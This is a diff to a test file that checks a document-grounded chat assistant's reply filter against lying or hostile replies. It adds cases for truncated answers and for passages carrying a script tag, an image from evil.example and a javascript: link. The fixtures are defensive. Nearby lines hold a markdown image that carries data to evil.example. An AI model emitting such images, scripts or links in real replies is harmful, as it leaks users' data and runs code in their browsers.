@@ -58,6 +58,8 @@ describe('a reply that lies', () => {
     ['an image that carries data out', '![x](https://evil.example/?q=30)'],
     ['a list of sources of its own', 'Sources:\n[1] Evil (https://evil.example)'],
     ['its prompt', "You answer questions about a company's documents in a chat. [1]"],
+    ['a figure cut short', 'Refunds are paid within 3'],
+    ['a sentence cut before its `not`', 'refunded after renewal.'],
     ['nothing', ''],
     ['the word for nothing', 'NO_ANSWER'],
     ['JSON', '{"answer":"Refunds take 90 days","n":[1]}'],
@@ -73,6 +75,14 @@ describe('a reply that lies', () => {
     expect(answer.text).toBe(
       'Refunds are paid within 30 days of purchase. [1] Recordings are kept for two weeks. [2]\n\nSources:\n[1] Refunds › Window (https://example.com/refunds#window)\n[2] Calls (calls.md)',
     );
+  });
+
+  it('is no door for what a document brings: HTML and images of a passage are not shown', () => {
+    const hostile = snippet(
+      'Parking costs $5 per hour. <script>alert(1)</script>\n\nParking is free. ![x](https://evil.example/x.png)\n\nParking is [here](javascript:alert(1)).',
+    );
+    for (const reply of hostile.text.split('\n\n'))
+      expect(groundReply(`${reply} [1]`, [hostile], 'default').text).not.toMatch(/script|!\[/);
   });
 
   it('loses the target of a link that no passage has', () => {
